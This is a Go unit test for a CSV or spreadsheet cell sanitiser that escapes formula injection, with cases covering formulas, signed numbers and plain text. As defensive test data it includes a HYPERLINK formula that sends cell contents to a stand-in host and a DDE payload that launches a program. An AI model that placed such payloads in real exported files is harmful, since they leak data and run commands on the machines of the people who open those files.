package kpi_test

import (
	"testing"

	"attain/kpi"
)

func TestSafeCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		// formulas and what starts like one
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"-cmd", "'-cmd"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"=", "'="},
		{"+", "'+"},
		{"@", "'@"},
		{"-5 → 3 (+8, 160.00 %)", "'-5 → 3 (+8, 160.00 %)"},
		{"+49 170 1234567", "'+49 170 1234567"},
		{"1e5e5", "1e5e5"}, // starts with a digit: not a formula
		{"-1e", "'-1e"},
		{"-.", "'-."},
		{"-%", "'-%"},
		// numbers stay numbers
		{"-1054.50", "-1054.50"},
		{"+3", "+3"},
		{"-0.05", "-0.05"},
		{"-.5", "-.5"},
		{"-5.", "-5."},
		{"-1e-3", "-1e-3"},
		{"+2E+10", "+2E+10"},
		{"-12.5 %", "-12.5 %"},
		{"-12.5%", "-12.5%"},
		{"-1,200.00 EUR", "-1,200.00 EUR"},
		{"-11.7 points", "-11.7 points"},
		{"+3 deals won", "+3 deals won"},
		{"-1,2", "-1,2"},
		// not numbers after all
		{"-1,", "'-1,"},
		{"-,1", "'-,1"},
		{"-1 EUR|cmd", "'-1 EUR|cmd"},
		{"-1  EUR", "'-1  EUR"},
		{"-1 ", "'-1 "},
		{"-1EUR", "'-1EUR"},
		{"-1 SUM(A1)", "'-1 SUM(A1)"},
		// the sign for no value, and plain text
		{"-", "-"},
		{"", ""},
		{"Won", "Won"},
		{"a=1", "a=1"},
		{" =1+1", " =1+1"},
		{"2026-Q3", "2026-Q3"},
		{"'=1+1", "'=1+1"},
	} {
		if got := kpi.SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	row := []string{"=1", "2", "-3"}
	got := kpi.SafeCells(row)
	if got[0] != "'=1" || got[1] != "2" || got[2] != "-3" || row[0] != "=1" {
		t.Errorf("SafeCells(%q) = %q and changed its input to %q", []string{"=1", "2", "-3"}, got, row)
	}
}
